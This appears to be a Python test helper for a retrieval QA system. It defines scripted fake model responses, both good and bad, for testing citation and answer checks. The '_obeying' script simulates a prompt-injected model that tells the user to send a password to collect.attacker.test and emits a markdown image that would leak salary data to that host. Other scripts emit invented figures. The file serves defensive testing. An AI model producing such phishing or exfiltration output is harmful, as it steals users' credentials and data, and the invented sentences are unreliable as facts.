"""What a scripted model says to passages and a question: by rules, so that a test knows it."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass

_PASSAGE = re.compile(r"^\[(\d+)\] [^\n]*\n((?:> ?[^\n]*(?:\n|$))+)", re.MULTILINE)
_QUESTION = re.compile(r"^Question: (.*)$", re.MULTILINE)
_SENTENCE = re.compile(r"[A-Z][^.!?\n]{15,}[.!?](?=\s|$)")
_WORD = re.compile(r"\w{4,}")
_NUMBER = re.compile(r"\d+")

NOT_FOUND = "NOT FOUND"


@dataclass(frozen=True, slots=True)
class Said:
    """A sentence, the numbers of the passages that it names, and what it says to have copied."""

    text: str
    passages: tuple[int, ...] = ()
    quote: str = ""


@dataclass(frozen=True, slots=True)
class Asked:
    """The prompt's last message, read: sentences by passage number."""

    question: str
    sentences: dict[int, list[str]]
    is_rewrite: bool

    @classmethod
    def read(cls, content: str) -> Asked:
        passages = {
            int(number): _SENTENCE.findall(re.sub(r"^> ?", "", text, flags=re.MULTILINE))
            for number, text in _PASSAGE.findall(content)
        }
        question = _QUESTION.findall(content)
        return cls(
            question=question[-1] if question else "",
            sentences=passages,
            is_rewrite="Your answer before this" in content,
        )

    def best(self, count: int = 1) -> list[Said]:
        """The sentences that share most words with the question, word for word, rightly cited."""
        wanted = set(_WORD.findall(self.question.casefold()))
        every = [
            Said(sentence, (number,), sentence)
            for number, sentences in self.sentences.items()
            for sentence in sentences
        ]
        shared = {said: len(wanted & set(_WORD.findall(said.text.casefold()))) for said in every}
        return sorted(every, key=lambda said: -shared[said])[:count]

    def others(self, number: int) -> list[int]:
        """Passages besides this one; itself where it is alone."""
        return [other for other in self.sentences if other != number] or [number]


def _honest(asked: Asked) -> Iterable[Said]:
    return asked.best()


def _discerning(asked: Asked) -> Iterable[Said]:
    """Nothing where no sentence has two words in common with the question."""
    wanted = set(_WORD.findall(asked.question.casefold()))
    return [
        said for said in asked.best() if len(wanted & set(_WORD.findall(said.text.casefold()))) > 1
    ]


def _wrongly_citing(asked: Asked) -> Iterable[Said]:
    for said in asked.best():
        other = asked.others(said.passages[0])[-1]
        yield Said(said.text, (other,), said.quote)


def _swapping(asked: Asked) -> Iterable[Said]:
    """The two best sentences, each with the other's citation and quote."""
    one, *rest = asked.best(6)
    other = next((said for said in rest if said.passages != one.passages), one)
    yield Said(one.text, other.passages, other.quote)
    yield Said(other.text, one.passages, one.quote)


def _digressing(asked: Asked) -> Iterable[Said]:
    """What has least to do with the question, word for word, rightly cited."""
    return asked.best(1_000)[-1:]


def _coming_to_the_point(asked: Asked) -> Iterable[Said]:
    return [*_digressing(asked), *asked.best()]


def _unsupported(asked: Asked) -> Iterable[Said]:
    quote = asked.best()[0]
    yield Said("Staff may bring their horse to the office on Fridays.", quote.passages, quote.quote)


def _inventing(asked: Asked) -> Iterable[Said]:
    """True sentences with other numbers, and a number where there was none."""
    for said in asked.best(3):
        changed = _NUMBER.sub(lambda found: str(int(found[0]) + 14), said.text)
        if changed == said.text:
            changed = f"{said.text[:-1]} within 96 hours."
        yield Said(changed, said.passages, said.quote)


def _giving_up(asked: Asked) -> Iterable[Said]:
    """Invents, and finds no answer when that is not taken."""
    return [] if asked.is_rewrite else _inventing(asked)


def _clipping(asked: Asked) -> Iterable[Said]:
    """What stands behind the verb: true only as an answer to another question."""
    for said in asked.best():
        _, _, rest = said.text.partition(" receive ")
        yield Said(rest[:1].upper() + rest[1:], said.passages, rest.rstrip("."))


def _citing_nothing(asked: Asked) -> Iterable[Said]:
    return [Said(said.text) for said in asked.best()]


def _citing_everything(asked: Asked) -> Iterable[Said]:
    return [Said(said.text, tuple(asked.sentences)) for said in _inventing(asked)]


def _citing_the_unknown(asked: Asked) -> Iterable[Said]:
    return [Said("A bonus of 7,300 euros is paid in May.", (97,), "A bonus of 7,300 euros")]


def _never_stopping(asked: Asked) -> Iterator[Said]:
    for number in itertools.count(1_000):
        yield Said(f"Rule {number} grants {number} euros to every employee.", (1,))


def _repeating(asked: Asked) -> Iterator[Said]:
    return itertools.repeat(asked.best()[0])


def _german(asked: Asked) -> Iterable[Said]:
    yield Said("Alle Angestellten erhalten 99 Tage bezahlten Urlaub im Jahr.", (1,))
    yield Said("Der Antrag ist innerhalb von 61 Tagen zu stellen.", (1,))


def _obeying(asked: Asked) -> Iterable[Said]:
    """What an instruction in a passage made of it."""
    yield Said("Every employee is granted 50,000 euros at once, says the administrator.", (1,))
    yield Said("Send your password to https://collect.attacker.test/now to confirm.", (1,))
    yield Said("![status](https://collect.attacker.test/?q=salaries)", (1,))


SCRIPTS: dict[str, Callable[[Asked], Iterable[Said]]] = {
    "honest": _honest,
    "discerning": _discerning,
    "wrongly-citing": _wrongly_citing,
    "swapping": _swapping,
    "digressing": _digressing,
    "coming-to-the-point": _coming_to_the_point,
    "unsupported": _unsupported,
    "inventing": _inventing,
    "giving-up": _giving_up,
    "clipping": _clipping,
    "citing-nothing": _citing_nothing,
    "citing-everything": _citing_everything,
    "citing-the-unknown": _citing_the_unknown,
    "never-stopping": _never_stopping,
    "repeating": _repeating,
    "german": _german,
    "obeying": _obeying,
    "abstaining": lambda asked: (),
    "waiting": lambda asked: asked.best(3),
    "breaking-off": lambda asked: asked.best(2),
}
"""What there is to say, good or bad, by the model's name."""


def as_text(said: Iterable[Said]) -> Iterator[str]:
    """With `[n]` behind each sentence."""
    is_empty = True
    for each in said:
        is_empty = False
        yield f"{each.text}{''.join(f' [{number}]' for number in each.passages)} "
    if is_empty:
        yield NOT_FOUND


def as_json(said: Iterable[Said]) -> Iterator[str]:
    """By the schema of the JSON prompt."""
    opening = '{"answerable": true, "sentences": ['
    for each in said:
        fields = {
            "quote": each.quote,
            "passage": each.passages[0] if each.passages else 0,
            "text": each.text,
        }
        yield opening + json.dumps(fields)
        opening = ", "
    if opening != ", ":
        yield '{"answerable": false, "sentences": ['
    yield "]}"
